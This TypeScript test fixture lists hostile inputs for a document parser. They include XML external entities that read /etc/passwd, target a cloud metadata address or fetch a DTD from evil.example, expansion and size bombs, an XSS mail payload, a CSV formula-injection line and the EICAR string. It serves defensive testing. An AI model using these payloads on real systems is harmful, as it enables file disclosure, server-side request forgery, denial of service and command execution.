import type { Hostile } from './pdf-parts';

const [XML, MAIL, CSV, PLAIN] = ['application/xml', 'message/rfc822', 'text/csv', 'text/plain'];
const row = (what: string, content: () => string, type: string): Hostile => [what, () => Buffer.from(content()), type];
const invoice = (inside: string, before = '') => `${before}<Invoice>${inside}</Invoice>`;

const nested = (depth: number): string => {
  let mail = 'From: a@b.example\nMessage-Id: <0@b>\n\nthe innermost';
  for (let at = 1; at <= depth; at += 1)
    mail = `From: a@b.example\nMessage-Id: <${at}@b>\nContent-Type: message/rfc822\n\n${mail}`;
  return mail;
};
const parts = (count: number) =>
  `From: a@b.example\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=x\n\n${'--x\nContent-Type: text/plain\n\nq\n'.repeat(count)}--x--`;
const HEAD = 'From: a@b.example\nMIME-Version: 1.0\n';

/** XML, mails, tables and plain texts, and programs with the names of such files. */
export const HOSTILE_TEXTS: readonly Hostile[] = [
  row(
    'an entity from a file of this machine',
    () => invoice('<ID>&x;</ID>', '<!DOCTYPE i [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
    XML,
  ),
  row(
    'an entity from elsewhere',
    () => invoice('<ID>&x;</ID>', '<!DOCTYPE i [<!ENTITY x SYSTEM "http://169.254.169.254/">]>'),
    XML,
  ),
  row(
    'a list of entities from elsewhere',
    () => invoice('<ID>1</ID>', '<!DOCTYPE i [<!ENTITY % p SYSTEM "http://evil.example/x.dtd">%p;]>'),
    XML,
  ),
  row(
    'an entity of a megabyte, used ten thousand times',
    () => invoice('&x;'.repeat(10_000), `<!DOCTYPE i [<!ENTITY x "${'x'.repeat(1024 * 1024)}">]>`),
    XML,
  ),
  row(
    'three hundred thousand attributes',
    () => `<Invoice ${Array.from({ length: 300_000 }, (_, at) => `a${at}="1"`).join(' ')}/>`,
    XML,
  ),
  row('an invoice with a million lines', () => invoice('<InvoiceLine/>'.repeat(1_000_000)), XML),
  row('an invoice with a number of 20 MB', () => invoice(`<ID>${'9'.repeat(20_000_000)}</ID>`), XML),
  row('an element with a name of a megabyte', () => invoice(`<${'n'.repeat(1024 * 1024)}/>`), XML),
  [
    'an invoice in two bytes a letter, cut in the middle of one',
    () => Buffer.from(`\ufeff${invoice('<ID>1</ID>')}`, 'utf16le').subarray(0, 31),
    XML,
  ],
  row(
    'a sheet of styles that calls itself',
    () =>
      '<xsl:stylesheet xmlns:xsl="x"><xsl:template name="a"><xsl:call-template name="a"/></xsl:template></xsl:stylesheet>',
    XML,
  ),
  row('a mail in a mail, a hundred deep', () => nested(100), MAIL),
  row('a mail of twenty thousand parts', () => parts(20_000), MAIL),
  row('a mail without an end to its heads', () => `From: a@b.example\n${'X-A: 1\n'.repeat(200_000)}`, MAIL),
  row('a mail with a subject of 5 MB', () => `${HEAD}Subject: ${'s'.repeat(5_000_000)}\n\nx`, MAIL),
  row(
    'a mail of markup that runs',
    () => `${HEAD}Content-Type: text/html\n\n<script>while(1){}</script><img src=x onerror=alert(1)>`,
    MAIL,
  ),
  row(
    'a mail of half a million nested marks',
    () => `${HEAD}Content-Type: text/html\n\n${'<div>'.repeat(500_000)}`,
    MAIL,
  ),
  row(
    'a mail whose boundary is not there',
    () => `${HEAD}Content-Type: multipart/mixed; boundary="${'b'.repeat(100_000)}"\n\nx`,
    MAIL,
  ),
  row('a table of a million columns', () => `${'a,'.repeat(1_000_000)}\n${'1,'.repeat(1_000_000)}`, CSV),
  row('a table of one line of 20 MB', () => `a,b\n${'x'.repeat(20_000_000)}`, CSV),
  row('a table with a quote that never ends', () => `a,b\n"${'x\n'.repeat(3_000_000)}`, CSV),
  row('a table of formulas', () => "Site,kWh\n=cmd|' /C calc'!A0,1\n@SUM(1+1),2\n", CSV),
  row('a text of a million lines', () => 'x\n'.repeat(1_000_000), PLAIN),
  row('a text that turns its letters round', () => `\u202e${'\u0300'.repeat(300_000)}bill`, PLAIN),
  row(
    'the text that scanners of viruses are tried with',
    () => 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*',
    PLAIN,
  ),
  row("a text in another program's marks", () => '{\\rtf1{\\object\\objdata 0105}}', 'application/rtf'),
  ['a program', () => Buffer.concat([Buffer.from('MZ\x90\x00'), Buffer.alloc(9000, 7)])],
  ['a program of another system', () => Buffer.concat([Buffer.from('\x7fELF'), Buffer.alloc(9000, 7)])],
  [
    'a megabyte of chance',
    () => Buffer.from(Array.from({ length: 1024 * 1024 }, (_, at) => (at * 7919 + (at >> 3) * 104_729) & 255)),
  ],
  ['nothing at all', () => Buffer.alloc(0)],
];
